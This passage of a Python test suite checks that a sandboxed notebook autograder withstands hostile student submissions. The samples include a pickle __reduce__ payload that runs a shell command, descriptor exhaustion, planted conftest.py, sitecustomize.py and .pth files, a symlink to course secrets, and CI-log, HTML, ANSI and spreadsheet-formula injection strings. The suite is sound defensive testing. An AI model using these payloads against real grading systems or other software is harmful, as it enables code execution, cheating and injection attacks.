    def __str__(self): os._exit(0)
raise Exit
""",
)
honest_but(
    9,
    "timers and descriptors",
    100,
    """
import os, signal
kept = []
try:
    while True: kept.append(os.dup(0))
except OSError: pass
try:
    while True: kept.append(os.pipe())
except OSError: pass
for number in kept:
    os.close(number)
""",
)

# ------------------------------------------------------------------------------------- 10: the answer from elsewhere

FORBIDDEN = "asks you to write yourself"
honest_but(
    10,
    "alias",
    70,
    "from torch import linalg as friendly\ndef length(x):\n    return friendly.norm(x, dim=-1)",
    FORBIDDEN,
)
honest_but(10, "getattr", 70, 'def length(x):\n    return getattr(torch, "no" + "rm")(x, dim=-1)', FORBIDDEN)
honest_but(
    10, "ops", 70, "def length(x):\n    return torch.ops.aten.linalg_vector_norm(x, 2, [-1])", FORBIDDEN
)
honest_but(10, "method", 70, "def length(x):\n    return x.norm(dim=-1)", FORBIDDEN)
honest_but(10, "course package", 100, "from oracles import lengths\ndef length(x):\n    return lengths(x)")
honest_but(10, "judge package", 60, "def center(x):\n    import grading.judge", says="ModuleNotFoundError")
honest_but(
    10,
    "unpickling",
    60,
    r"""
import os, pickle
class Bomb:
    def __reduce__(self): return os.system, ("touch /tmp/pwned",)
def center(x):
    return Bomb()
""",
)

# ------------------------------------------------------------------------------------- 11 and 12: feedback as a channel

honest_but(
    11,
    "inputs in an exception",
    60,
    """
def center(x):
    raise ValueError("INPUTS " + repr(x.tolist()) * 10_000 + " TAIL")
""",
    says="INPUTS",
)
honest_but(
    11,
    "inputs printed",
    100,
    """
import sys
honest = center
def center(x):
    print("PRINTED", x)
    sys.stderr.write(f"PRINTED {x}")
    return honest(x)
""",
)
honest_but(
    11,
    "inputs in a class name",
    60,
    """
def center(x):
    raise type("NAMED " + repr(x.tolist()) * 1000, (Exception,), {})()
""",
)
INJECTION = (
    r"\n::error file=x::injected\n::add-mask::a\r::set-output name=a::b\n##[error]injected\x1b]0;title\x07\x1b[31mred"
    r"\x1b[2J<script>alert(1)</script><img src=x onerror=alert(1)>[click](javascript:alert(1))| a | b |\n\n# heading\n"
    r"@everyone \u202e\ud800 ```"
)
INJECTING = f"""
TEXT = "{INJECTION}"
def center(x): raise ValueError(TEXT)
def length(x): raise type(TEXT[:60], (Exception,), {{}})(TEXT)
def twice(f, x): raise type("Error", (KeyError,), {{"__module__": TEXT}})(TEXT)
"""
honest_but(12, "injection", 0, INJECTING)


# ============================================================================================ the class run


@dataclass(slots=True)
class ClassRun:
    """What one command wrote about all of the above."""

    result: subprocess.CompletedProcess[str]
    directory: Path
    out: Path
    summary: str
    scores: dict[str, dict[str, Any]]
    names: list[str]  # of submissions, in order
    touched: list[str]  # of our listeners


def notebook(*cells: str) -> str:
    code = [
        {
            "cell_type": "code",
            "id": f"c{i}",
            "metadata": {},
            "source": cell,
            "outputs": [],
            "execution_count": None,
        }
        for i, cell in enumerate(cells)
    ]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": code})


def with_functions(functions: dict[str, str], *cells: str) -> str:
    return notebook("import torch", *functions.values(), *cells)


def file_of(attack: Attack) -> str:
    return f"{attack.kind:02} " + "".join(c if c.isalnum() else "-" for c in attack.name)


def run_grading(
    *arguments: object, env: dict[str, str] | None = None, **more: Any
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [GRADING, "grade", *map(str, arguments), *ARGUMENTS], env={**os.environ, **SECRETS, **(env or {})},
        capture_output=True, text=True, timeout=280, check=False, **more,
    )  # fmt: skip


@pytest.fixture(scope="module")
def class_run(tmp_path_factory: pytest.TempPathFactory) -> ClassRun:
    directory = tmp_path_factory.mktemp("attacks")
    out, summary = directory / "scores", directory / "summary.md"
    out.mkdir()
    with Listeners(directory) as listeners:
        words = {
            "<PORT>": str(listeners.port), "<ABSTRACT>": listeners.abstract, "<UNIX>": listeners.path,
            "<PLACES>": repr([".", "/", "/tmp", "/homework", str(out), str(directory), str(HOMEWORKS / "toy/tests")]),
        }  # fmt: skip
        names, paths = [], []
        for number, attack in enumerate(ATTACKS):
            code = attack.code
            for word, value in words.items():
                code = code.replace(word, value)
            texts = {file_of(attack): with_functions(attack.base, code)}
            if number % 2:
                texts[f"{file_of(attack)} then honest"] = with_functions(HONEST, "# honest-marker")
            for name, text in texts.items():
                path = directory / f"{name}.ipynb"
                path.write_text(text)
                names.append(name)
                paths.append(path)
        result = run_grading(*paths, "--out", out, "--summary", summary, "--jobs", 2, cwd=directory)
        touched = listeners.touched()
    scores = {path.stem: json.loads(path.read_text()) for path in out.glob("*.json")}
    return ClassRun(result, directory, out, summary.read_text(), scores, names, touched)


class Listeners:
    """Sockets of this machine that no submission may reach."""

    def __init__(self, directory: Path) -> None:
        self.abstract = f"@grading-attacks-{os.getpid()}"
        self.path = str(directory / "listening")
        self.sockets = {}
        for name, family, kind in (
            ("v4", socket.AF_INET, socket.SOCK_STREAM),
            ("udp", socket.AF_INET, socket.SOCK_DGRAM),
            ("abstract", socket.AF_UNIX, socket.SOCK_STREAM),
            ("unix", socket.AF_UNIX, socket.SOCK_STREAM),
        ):
            self.sockets[name] = socket.socket(family, kind)
            self.sockets[name].setblocking(False)
        self.sockets["v4"].bind(("127.0.0.1", 0))
        self.port = self.sockets["v4"].getsockname()[1]
        self.sockets["udp"].bind(("127.0.0.1", self.port))
        self.sockets["abstract"].bind("\0" + self.abstract[1:])
        self.sockets["unix"].bind(self.path)
        for name in ("v4", "abstract", "unix"):
            self.sockets[name].listen()

    def touched(self) -> list[str]:
        found = []
        for name, listening in self.sockets.items():
            try:
                listening.recv(1) if name == "udp" else listening.accept()
                found.append(name)
            except BlockingIOError:
                pass
        return found

    def __enter__(self) -> Listeners:
        return self

    def __exit__(self, *error: object) -> None:
        for listening in self.sockets.values():
            listening.close()


def messages(score: dict[str, Any]) -> str:
    return "\n".join(test["message"] for task in score["tasks"] for test in task["tests"])


def of_every_attack(test: Any) -> Any:
    return pytest.mark.parametrize("attack", ATTACKS, ids=[file_of(attack) for attack in ATTACKS])(test)


@of_every_attack
def test_gets_what_its_functions_deserve(class_run: ClassRun, attack: Attack) -> None:
    score = class_run.scores[file_of(attack)]

    assert (score["state"], score["points"]) == ("graded", attack.points), messages(score)
    assert score["confined"] is True
    assert attack.says in messages(score)


@pytest.mark.parametrize("number", range(1, len(ATTACKS), 2))
def test_next_submission_is_graded_as_if_nothing_had_happened(class_run: ClassRun, number: int) -> None:
    score = class_run.scores[f"{file_of(ATTACKS[number])} then honest"]

    assert (score["state"], score["points"]) == ("graded", 100), messages(score)


@of_every_attack
def test_limits_of_time_hold(class_run: ClassRun, attack: Attack) -> None:
    score = class_run.scores[file_of(attack)]

    slowest = max(test["seconds"] for task in score["tasks"] for test in task["tests"])

    assert slowest < TEST_LIMIT + 20, "seconds: the limit, and the time to end what would not end"


@of_every_attack
def test_feedback_is_short(class_run: ClassRun, attack: Attack) -> None:
    score = class_run.scores[file_of(attack)]

    longest = max(len(test["message"]) for task in score["tasks"] for test in task["tests"])

    assert longest < 800


def test_whole_class_is_graded(class_run: ClassRun) -> None:
    assert class_run.result.returncode == 0, class_run.result.stderr[-2000:]
    assert sorted(class_run.scores) == sorted(class_run.names)


@pytest.mark.parametrize("trace", TRACES)
def test_no_secret_is_in_any_output(class_run: ClassRun, trace: str) -> None:
    everything = {
        "stdout": class_run.result.stdout,
        "stderr": class_run.result.stderr,
        "summary": class_run.summary,
        **{name: json.dumps(score, ensure_ascii=False) for name, score in class_run.scores.items()},
    }

    leaks = [name for name, text in everything.items() if trace in text]

    assert leaks == []


def test_nothing_is_written_but_the_scores(class_run: ClassRun) -> None:
    written = {path.name for path in class_run.out.iterdir()}
    beside = {path.name for path in class_run.directory.iterdir() if path.suffix != ".ipynb"}

    assert written == {f"{name}.json" for name in class_run.names}
    assert beside == {"scores", "summary.md", "listening"}
    assert not [
        path for path in HOMEWORKS.rglob("*") if path.name in ("score.json", "forged.json", "left-over")
    ]


def test_nobody_reaches_this_machine(class_run: ClassRun) -> None:
    assert class_run.touched == []


def test_what_students_print_is_not_echoed(class_run: ClassRun) -> None:
    output = class_run.result.stdout + class_run.result.stderr

    assert "SHOUTED" not in output + class_run.summary
    assert "PRINTED" not in output + class_run.summary
    assert len(output) < 100_000


def test_summary_shows_no_markup_of_a_student(class_run: ClassRun) -> None:
    for mark in (
        "<script",
        "<img",
        "[click](",
        "\x1b",
        "\n::",
        "\n# heading",
        "| a | b |",
        "```",
        "\u202e",
        "\r",
    ):
        assert mark not in class_run.summary, mark


def test_scores_hold_no_control_characters(class_run: ClassRun) -> None:
    said = messages(class_run.scores["12 injection"])

    assert "injected" in said
    assert all(letter.isprintable() or letter == "\n" for letter in said)
    assert not [line for line in said.splitlines() if line.lstrip().startswith(("::", "##["))]


def test_no_process_is_left(class_run: ClassRun) -> None:
    left = [process.pid for process in psutil.process_iter() if str(class_run.out) in command_line(process)]

    assert left == []


def command_line(process: psutil.Process) -> list[str]:
    try:
        return process.cmdline()
    except psutil.Error:
        return []  # it has just ended


# ============================================================================ 6: files beside the notebook


ACTIVE = ("conftest.py", "sitecustomize.py", "usercustomize.py", "torch.py", "oracles.py", "grading.py", "setup.py",
          "numpy/__init__.py", "grading/__init__.py", "pytest.py", "test_center.py", "json.py")  # fmt: skip
CONFIGURATION = {
    "pytest.ini": "[pytest]\naddopts = -p plugin --co -q\npython_files = *.py\n",
    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p plugin"\n',
    "tox.ini": "[pytest]\naddopts = -p plugin\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p plugin\n",
    "course.yml": "salt: mine\n",
    "homework.yml": "title: mine\ntasks: []\n",
    ".env": "GRADING_SALT=mine\n",
    "score.json": '{"points": 100}',
}


def checkout(directory: Path, witness: Path) -> Path:
    """A repository full of files that would run if anybody imported, collected, sourced or configured by them."""
    directory.mkdir(parents=True)
    shout = f"open({str(witness)!r}, 'a').write(__name__)\nprint('EXECUTED')\n"
    for name in ACTIVE:
        (directory / name).parent.mkdir(exist_ok=True)
        (directory / name).write_text(shout)
    for name, text in CONFIGURATION.items():
        (directory / name).write_text(text)
    (directory / "evil.pth").write_text(f"import sys; open({str(witness)!r}, 'a')\n")
    return directory


def test_files_beside_the_notebook_do_nothing(tmp_path: Path) -> None:
    witness, score = tmp_path / "witness", tmp_path / "score.json"
    repo = checkout(tmp_path / "repo", witness)
    (repo / "toy.ipynb").write_text(with_functions(HONEST))

    result = run_grading("--repo", repo, "--out", score, cwd=repo)

    assert result.returncode == 0, result.stderr
    assert json.loads(score.read_text())["points"] == 100
    assert not witness.exists()
    assert "EXECUTED" not in result.stdout + result.stderr
    assert (repo / "score.json").read_text() == CONFIGURATION["score.json"]


def test_files_beside_the_notebook_lend_no_points(tmp_path: Path) -> None:
    witness, score = tmp_path / "witness", tmp_path / "score.json"
    repo = checkout(tmp_path / "repo", witness)
    (repo / "toy.ipynb").write_text(with_functions(WRONG, "import torch, oracles, conftest"))

    run_grading("--repo", repo, "--out", score, cwd=repo)

    assert json.loads(score.read_text())["points"] == 0
    assert not witness.exists()


@pytest.mark.parametrize("kind", ["notebook", "folder", "secret", "loop", "deep tree", "huge tree"])
def test_links_and_trees_are_not_followed(tmp_path: Path, kind: str) -> None:
    repo, elsewhere, score = tmp_path / "repo", tmp_path / "elsewhere", tmp_path / "score.json"
    repo.mkdir()
    elsewhere.mkdir()
    (elsewhere / "toy.ipynb").write_text(with_functions(HONEST))
    match kind:
        case "notebook":
            (repo / "toy.ipynb").symlink_to(elsewhere / "toy.ipynb")
        case "folder":
            (repo / "work").symlink_to(elsewhere, target_is_directory=True)
        case "secret":
            (repo / "toy.ipynb").symlink_to(HOMEWORKS / "course.yml")
        case "loop":
            (repo / "toy.ipynb").symlink_to("toy.ipynb")
            (repo / "round").symlink_to(".", target_is_directory=True)
        case "deep tree":
            deep = repo.joinpath(*["d"] * 400)
            deep.mkdir(parents=True)
        case "huge tree":
            for number in range(30_000):
                (repo / f"{number}.txt").touch()

    result = run_grading("--repo", repo, "--out", score)

    written = json.loads(score.read_text())
    assert (written["state"], written["points"]) == ("graded", 0), result.stderr
    assert ("20000 files" if kind == "huge tree" else "toy.ipynb") in messages(written)
    assert not [trace for trace in TRACES if trace in result.stdout + result.stderr + score.read_text()]


# ============================================================================ 12: injection

LOGINS = (
    "=HYPERLINK(1)",
    "+1+1",
    "-2",
    "@SUM(A1)",
    "::error::x",
    "<b>bold<b>",
    "a|b",
    "x\ny",
    "\x1b[31mred",
    "\tx",
)


@pytest.fixture(scope="module")
def injection_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[subprocess.CompletedProcess[str], Path]:
    """One submission on its own, whose messages are shown in full, by a student with a hostile name."""
    directory = tmp_path_factory.mktemp("injection")
    path = directory / "=cmd|'::error::name<script>.ipynb"
    path.write_text(with_functions({}, INJECTING))
    student = "::error::login\n::add-mask::login\x1b[31m<script>"
    arguments = (
        "--out",
        directory / "score.json",
        "--summary",
        directory / "summary.md",
        "--student",
        student,
    )

    return run_grading(path, *arguments), directory


def test_log_holds_no_command_and_no_escape(
    injection_run: tuple[subprocess.CompletedProcess[str], Path],
) -> None:
    result, _ = injection_run

    output = result.stdout + result.stderr

    assert "injected" in output
    assert "\x1b" not in output
    assert "\r" not in output
    assert "::error" not in output
    assert "::add-mask" not in output
    assert not [line for line in output.splitlines() if line.strip().startswith(("::", "##["))]


def test_summary_holds_no_markup(injection_run: tuple[subprocess.CompletedProcess[str], Path]) -> None:
    _, directory = injection_run

    summary = (directory / "summary.md").read_text()

    assert "injected" in summary
    for mark in (
        "<script",
        "<img",
        "[click](",
        "\x1b",
        "\n::",
        "\n# heading",
        "| a | b |",
        "```",
        "@everyone",
    ):
        assert mark not in summary, mark


def test_table_of_grades_holds_no_formula(tmp_path: Path) -> None:
    scores = tmp_path / "scores"
    paths = []
    for number, login in enumerate(LOGINS):
        path = tmp_path / f"{number}" / "toy.ipynb"
        path = path.parent.with_name(login.replace("/", "")) / path.name
        path.parent.mkdir()
        path.write_text("{}")
        paths.append(path)
    graded = run_grading(*paths, "--out", scores)

    exported = subprocess.run(
        [GRADING, "export", str(scores), "--out", str(tmp_path / "grades.csv"), "--homeworks", str(HOMEWORKS)],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip

    assert graded.returncode == 0, graded.stderr
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.reader((tmp_path / "grades.csv").open(newline="")))
    assert len(rows) == len(LOGINS) + 1
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert "\x1b" not in cell, cell
    for line in (graded.stdout + graded.stderr + exported.stdout + exported.stderr).splitlines():
        assert not line.strip().startswith("::")
        assert "\x1b" not in line


# ============================================================================ our own side fails


def test_without_bubblewrap_there_is_an_error_and_no_score(tmp_path: Path) -> None:
    path, score = tmp_path / "ada.ipynb", tmp_path / "score.json"
    path.write_text(with_functions(HONEST))

    result = run_grading(path, "--out", score, env={"PATH": str(tmp_path)})

    written = json.loads(score.read_text())
    assert result.returncode == 3
    assert (written["state"], written["points"], written["final_points"]) == ("error", None, None)
    assert "bubblewrap" in written["reason"]
    assert "bubblewrap" in result.stdout


def test_a_bubblewrap_that_fails_is_an_error_and_no_score(tmp_path: Path) -> None:
    path, score, broken = tmp_path / "ada.ipynb", tmp_path / "score.json", tmp_path / "bin" / "bwrap"
    path.write_text(with_functions(HONEST))
    broken.parent.mkdir()
    broken.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    broken.chmod(0o755)

    result = run_grading(path, "--out", score, env={"PATH": f"{broken.parent}:{os.environ['PATH']}"})

    written = json.loads(score.read_text())
    assert result.returncode == 3
    assert (written["state"], written["points"]) == ("error", None)
    assert "No permissions" in written["reason"]


def test_an_error_takes_no_score_away(tmp_path: Path) -> None:
    path, score = tmp_path / "ada.ipynb", tmp_path / "score.json"
    path.write_text(with_functions(HONEST))
    run_grading(path, "--out", score)
    before = score.read_bytes()

    result = run_grading(path, "--out", score, env={"PATH": str(tmp_path)})

    assert result.returncode == 3
    assert json.loads(before)["points"] == 100
    assert score.read_bytes() == before


def test_a_full_disk_leaves_no_score(tmp_path: Path) -> None:
    path, scores = tmp_path / "ada.ipynb", tmp_path / "scores"
    path.write_text(with_functions(HONEST))
    scores.mkdir()
    script = """
        head -c 4096 /dev/zero > "$0/all there is"
        "$@"
        code=$?
        ls -A "$0"
        exit $code
    """
    privileges = ("--cap-add", "ALL") if os.geteuid() == 0 else ()
    small_disk = ("bwrap", *privileges, "--dev-bind", "/", "/", "--size", "4096", "--tmpfs", str(scores))
    command = (str(GRADING), "grade", str(path), "--out", str(scores / "score.json"), *ARGUMENTS)

    result = subprocess.run(
        [*small_disk, "sh", "-c", script, str(scores), *command],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip

    assert result.returncode == 3, result.stdout + result.stderr
    assert "cannot be written" in result.stderr
    assert "Traceback" not in result.stderr
    assert result.stdout.split("\n") == ["all there is", ""]


@pytest.mark.parametrize("when", ["at any moment", "before it reads a request"])
def test_a_lost_worker_is_an_error_of_those_not_yet_graded(tmp_path: Path, when: str) -> None:
    paths, scores = [], tmp_path / "scores"
    for name, cells in (
        ("first", ("import time; time.sleep(1)",)),
        ("second", ("while True: pass",)),
        ("third", ()),
    ):
        paths.append(tmp_path / f"{name}.ipynb")
        paths[-1].write_text(with_functions(HONEST, *cells))
    command = [GRADING, "grade", *map(str, paths), "--out", str(scores), "--jobs", "1", *ARGUMENTS]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as grader:
        wait_for(lambda: (warm := warm_parent(grader.pid)) and warm.children())
        warm = warm_parent(grader.pid)
        assert warm is not None
        if when == "before it reads a request":
            warm.suspend()
        wait_for(lambda: (scores / "first.json").exists())
        wait_for(lambda: judge_forks(grader.pid))

        warm.send_signal(signal.SIGKILL)
        output = "".join(grader.communicate(timeout=120))

    graded = {path.stem: json.loads(path.read_text()) for path in scores.glob("*.json")}
    assert grader.returncode == 3, output
    assert (graded["first"]["state"], graded["first"]["points"]) == ("graded", 100)
    for name in ("second", "third"):
        assert (graded[name]["state"], graded[name]["points"]) == ("error", None)
        assert "worker" in json.dumps(graded[name]), graded[name]


def test_a_lost_judge_is_an_error_of_its_submission_alone(tmp_path: Path) -> None:
    paths, scores = [], tmp_path / "scores"
    for name, cells in (("first", ()), ("second", ("while True: pass",)), ("third", ())):
        paths.append(tmp_path / f"{name}.ipynb")
        paths[-1].write_text(with_functions(HONEST, *cells))
    command = [GRADING, "grade", *map(str, paths), "--out", str(scores), "--jobs", "1", *ARGUMENTS]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as grader:
        wait_for(lambda: (scores / "first.json").exists() and judge_forks(grader.pid))

        judge_forks(grader.pid)[0].send_signal(signal.SIGKILL)
        output = "".join(grader.communicate(timeout=120))

    graded = {path.stem: json.loads(path.read_text()) for path in scores.glob("*.json")}
    assert grader.returncode == 3, output
    assert {name: score["points"] for name, score in graded.items()} == {
        "first": 100,
        "second": None,
        "third": 100,
    }
    assert "ended early" in graded["second"]["reason"]


def warm_parent(grader: int) -> psutil.Process | None:
    """The Python process right below bubblewrap, from which the submissions are forked."""
    workers = [
        process
        for process in psutil.Process(grader).children(recursive=True)
        if "grading.worker" in process.cmdline() and "python" in process.cmdline()[0]
    ]
    return workers[0] if workers else None


def judge_forks(grader: int) -> list[psutil.Process]:
    return [process for process in psutil.Process(grader).children() if "grade" in process.cmdline()]


def wait_for(condition: Any, seconds: float = 60) -> None:
    give_up = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < give_up, "it never happened"
        time.sleep(0.01)
